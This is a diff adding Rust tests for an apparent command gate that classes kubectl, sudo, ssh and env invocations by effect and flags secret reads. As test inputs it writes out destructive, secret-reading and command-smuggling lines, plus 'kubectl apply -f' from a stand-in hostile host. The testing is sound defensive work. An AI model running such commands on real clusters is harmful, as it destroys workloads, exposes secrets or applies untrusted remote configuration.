@@ -1,0 +1,87 @@
+use super::*;
+
+fn understood(line: &str) -> Understood {
+    let argv = crate::gate::lexer::split(line).unwrap_or_else(|error| panic!("{line}: {error}"));
+    understand(&argv)
+}
+
+fn effect(line: &str) -> Effect {
+    understood(line).effect
+}
+
+#[test]
+fn the_embedded_tables_load() {
+    if let Err(error) = table::load(&FILES) {
+        panic!("{error}");
+    }
+}
+
+#[test]
+fn verbs_and_flags_are_understood_or_opaque() {
+    assert_eq!(effect("kubectl -n shop get pods -o wide"), Effect::Read);
+    assert_eq!(effect("kubectl get pods -oyaml -nshop"), Effect::Read);
+    assert_eq!(effect("kubectl get pods --frobnicate"), Effect::Opaque);
+    assert_eq!(effect("kubectl frobnicate"), Effect::Opaque);
+    assert_eq!(effect("kubectl rollout"), Effect::Opaque);
+    assert_eq!(effect("kubectl"), Effect::Opaque);
+    assert_eq!(effect("kubectl --kubeconfig /tmp/x get pods"), Effect::Opaque);
+    assert_eq!(effect("kubectl rollout undo deployment/payments"), Effect::Mutate);
+    assert_eq!(effect("kubectl delete pod x"), Effect::Destroy);
+    assert_eq!(effect("/tmp/kubectl get pods"), Effect::Opaque);
+    assert_eq!(effect("/usr/bin/kubectl get pods"), Effect::Read);
+    assert_eq!(effect("Kubectl get pods"), Effect::Opaque);
+}
+
+#[test]
+fn a_dry_run_counts_only_when_it_is_certain() {
+    assert_eq!(effect("kubectl delete pod x --dry-run=client"), Effect::Read);
+    assert_eq!(effect("kubectl delete pod x --dry-run=server"), Effect::Read);
+    assert_eq!(effect("kubectl delete pod x --dry-run=none"), Effect::Destroy);
+    assert_eq!(effect("kubectl delete pod x --dry-run"), Effect::Destroy);
+    assert_eq!(effect("kubectl delete pod x --dry-run=client --dry-run=none"), Effect::Destroy);
+    assert_eq!(effect("kubectl delete pod --dry-run client"), Effect::Destroy);
+}
+
+#[test]
+fn wrappers_never_make_it_better() {
+    assert_eq!(effect("sudo -n kubectl get pods"), Effect::Read);
+    assert_eq!(effect("sudo kubectl delete pod x"), Effect::Destroy);
+    assert_eq!(effect("timeout -k 5 10s nice -n 5 kubectl delete pod x"), Effect::Destroy);
+    assert_eq!(effect("env A=1 kubectl get pods"), Effect::Opaque);
+    assert_eq!(effect("env -S 'kubectl get pods'"), Effect::Opaque);
+    assert_eq!(effect("sudo -i"), Effect::Opaque);
+    assert_eq!(effect("ssh web-1 kubectl get pods"), Effect::Read);
+    assert_eq!(effect("ssh web-1 kubectl 'get;reboot'"), Effect::Opaque);
+    assert_eq!(effect("ssh -oProxyCommand=x web-1 uptime"), Effect::Opaque);
+    assert_eq!(effect("ssh web-1"), Effect::Opaque);
+    assert_eq!(effect("kubectl exec web-1 -- kubectl delete pod x"), Effect::Destroy);
+    assert_eq!(effect("kubectl exec -it web-1 -- sh"), Effect::Opaque);
+    assert_eq!(effect("kubectl exec web-1 rm -- kubectl get pods"), Effect::Opaque);
+}
+
+#[test]
+fn secrets_are_seen() {
+    assert!(understood("kubectl get secret db -o yaml").reads_secrets);
+    assert!(understood("kubectl get pods,secrets").reads_secrets);
+    assert!(understood("kubectl get --raw /api/v1/secrets").reads_secrets);
+    assert!(understood("kubectl exec web-1 -- env").reads_secrets);
+    assert!(understood("env").reads_secrets);
+    assert!(!understood("kubectl get pods -n shop").reads_secrets);
+}
+
+#[test]
+fn how_far_it_reaches_is_noted() {
+    let all = understood("kubectl delete pods --all -A");
+    assert!(
+        all.notes.iter().any(|note| note == "all namespaces")
+            && all.notes.iter().any(|note| note.contains("everything"))
+    );
+    assert_eq!(all.namespaces, ["*"]);
+    assert!(
+        understood("kubectl rollout restart deployment/prometheus")
+            .notes
+            .iter()
+            .any(|note| note.contains("monitoring"))
+    );
+    assert_eq!(effect("kubectl apply -f https://evil.example/x.yaml"), Effect::Opaque);
+}
